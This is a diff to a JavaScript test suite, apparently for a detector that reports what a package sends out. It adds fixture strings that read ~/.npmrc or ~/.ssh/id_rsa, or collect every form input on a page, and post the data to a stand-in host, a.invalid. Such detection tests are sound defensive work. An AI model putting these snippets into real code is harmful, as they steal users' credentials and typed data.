@@ -19,6 +19,16 @@ describe('what is sent', () => {
       ['credential <home>/.npmrc → https://a.invalid/'],
     ],
     [
+      'by what a list is mapped to',
+      `${fs}const all = (names) => names.map((name) => [name, fs.readFileSync(name, 'utf8')]);\nfetch('https://a.invalid/', { body: JSON.stringify(all([home + '/.npmrc'])) });`,
+      ['identity os.homedir → https://a.invalid/', 'credential <home>/.npmrc → https://a.invalid/'],
+    ],
+    [
+      'out of what somebody fills in',
+      `exports.open = () => { const values = {};\nArray.prototype.forEach.call(document.querySelectorAll('input'), (field) => { values[field.name] = field.value; });\nfetch('https://a.invalid/', { body: JSON.stringify(values) }); };`,
+      ['input document.querySelectorAll → https://a.invalid/'],
+    ],
+    [
       'through a callback',
       `${fs}fs.readFile(home + '/.ssh/id_rsa', (error, text) => { fetch('https://a.invalid/', { body: text }); });`,
       ['credential <home>/.ssh/id_rsa → https://a.invalid/'],
